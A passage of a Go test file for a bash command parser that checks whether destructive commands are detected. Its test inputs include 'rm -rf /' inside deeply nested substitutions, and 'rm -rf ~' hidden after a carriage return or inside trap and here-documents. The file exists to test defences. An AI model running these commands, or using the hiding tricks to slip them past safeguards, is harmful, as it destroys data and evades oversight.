	line := strings.Repeat("$(", 20000) + "rm -rf /" + strings.Repeat(")", 20000)
	start := time.Now()
	if _, err := Parse(line); !errors.Is(err, ErrTooDeep) {
		t.Errorf("Parse = %v, want ErrTooDeep", err)
	}
	if !HasCommand(line, "rm") {
		t.Errorf("HasCommand missed rm in %d nested substitutions", 20000)
	}
	if d := time.Since(start); d > time.Minute {
		t.Fatalf("took %v", d)
	}
	// Real nesting still parses.
	segs, err := Parse("echo $(cat $(ls $(pwd)))")
	if err != nil || len(segs) != 4 {
		t.Fatalf("Parse = %v, %v", segs, err)
	}
}

// TestSegmentLiteral: a $ or a backquote that the shell does not expand
// (quoted, escaped, or starting nothing) is marked literal, so that a
// caller can read '/tmp/$x' as a name; an expansion never is, nor a word
// of a line that is not valid bash.
func TestSegmentLiteral(t *testing.T) {
	for _, tc := range []struct {
		line  string
		plain map[string]bool
	}{
		{`rm -rf '/tmp/$x/..'`, map[string]bool{"/tmp/$x/..": true, "rm": true}},
		{`rm -rf /tmp/\$x "/a/\$b" $'$c' //h/c$/x a$ "d$"`, map[string]bool{"/tmp/$x": true, "/a/$b": true, "$c": true, "//h/c$/x": true, "a$": true, "d$": true}},
		{"rm -rf '`x`' \\`y\\`", map[string]bool{"`x`": true, "`y`": true}},
		{`rm -rf $x "$y" ${z} "$(pwd)" $((1)) "/a/$b"`, map[string]bool{"$x": false, "$y": false, "${z}": false, "$(pwd)": false, "$((1))": false, "/a/$b": false}},
		{`rm -rf '$x' $x`, map[string]bool{"$x": false}},
		{`sudo rm -rf '$x'`, map[string]bool{"$x": true}},
		{`bash -c "rm -rf '\$x'"`, map[string]bool{"$x": true}},
		{`env -S "rm -rf '\$x'"`, map[string]bool{"$x": false}},
		{`rm -rf build`, map[string]bool{"build": true, "$absent": false}},
		// An unquoted here-document's \$ is a $ of the script, which
		// the shell reading it expands; a quoted one's is not.
		{"bash <<EOF\nrm -rf \\$x\nEOF", map[string]bool{"$x": false}},
		{"bash <<'EOF'\nrm -rf \\$x\nEOF", map[string]bool{"$x": true}},
	} {
		segs, err := Parse(tc.line)
		if err != nil {
			t.Fatalf("%q: %v", tc.line, err)
		}
		s := segs[len(segs)-1]
		for w, want := range tc.plain {
			if got := s.Plain(w); got != want {
				t.Errorf("%q: Plain(%q) = %v, want %v (Argv %q, Literal %v)", tc.line, w, got, want, s.Argv, s.Literal)
			}
		}
	}
	segs, err := Parse(`cd '/srv/$x' && ls`)
	if err != nil {
		t.Fatal(err)
	}
	if dirs := segs[len(segs)-1].Dirs; len(dirs) != 1 || !dirs[0].Plain("/srv/$x") {
		t.Errorf("Dirs = %+v", dirs)
	}
}

// TestCarriageReturnAndTrapDashes: a carriage return is a character of a
// word to bash, so a # after one starts no comment ("echo x\r#; rm -rf
// ~" runs rm), and trap's script comes after a "--" too.
func TestCarriageReturnAndTrapDashes(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"echo x\r#; rm -rf ~", "rm"},
		{"echo x\r\n# c\nrm -rf ~", "rm"},
		{`trap -- 'rm -rf ~' EXIT`, "rm"},
	} {
		segs, err := Parse(c.line)
		if err != nil {
			t.Fatalf("%q: %v", c.line, err)
		}
		if !slices.ContainsFunc(segs, func(s Segment) bool { return s.Name == c.want }) {
			t.Errorf("%q: no %s in %v", c.line, c.want, segs)
		}
	}
}
